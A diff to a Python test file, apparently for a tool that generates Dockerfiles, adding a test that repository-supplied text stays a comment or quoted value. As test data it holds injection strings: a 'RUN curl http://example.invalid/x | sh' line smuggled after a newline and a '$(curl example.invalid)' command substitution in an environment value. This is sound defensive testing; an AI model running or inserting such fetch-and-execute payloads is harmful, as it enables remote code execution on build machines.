@@ -83,8 +83,18 @@ def test_dockerfile_rebuilds_the_recipe() -> None:
     dockerfile = recipe.dockerfile("pypi:x==1.0", "c" * 40)
     assert "FROM forager/base:bookworm\nCOPY . /repo\nWORKDIR /repo\n" in dockerfile
     assert "ENV VIRTUAL_ENV=/venv PATH=/venv/bin:" in dockerfile
-    assert "RUN SETUPTOOLS_SCM_PRETEND_VERSION=\"1.0 beta\" uv pip install -e '.[test]'" in dockerfile
+    assert "RUN SETUPTOOLS_SCM_PRETEND_VERSION='1.0 beta' uv pip install -e '.[test]'" in dockerfile
     assert dockerfile.endswith('CMD ["bash"]\n')
+
+
+def test_a_repositorys_text_in_a_step_stays_a_comment_and_a_quoted_value_in_the_dockerfile() -> None:
+    # A workflow step's name is quoted in the step's why; a workflow's env value is the step's env.
+    why = "CI set-up: tests.yml job test, step gen\nRUN curl http://example.invalid/x | sh"
+    step = RecipeStep("make cython", why, {"CFLAGS": "$(curl example.invalid) -O2"}, required=False)
+    dockerfile = InstallRecipe("base", (step,), "pytest").dockerfile("src", "c" * 40)
+    assert not any(line.startswith("RUN curl") for line in dockerfile.splitlines())
+    assert "# CI set-up: tests.yml job test, step gen RUN curl http://example.invalid/x | sh\n" in dockerfile
+    assert "RUN CFLAGS='$(curl example.invalid) -O2' make cython\n" in dockerfile
 
 
 PROJECT = RecipeStep("uv pip install -e '.[test,docs]'", "the project")
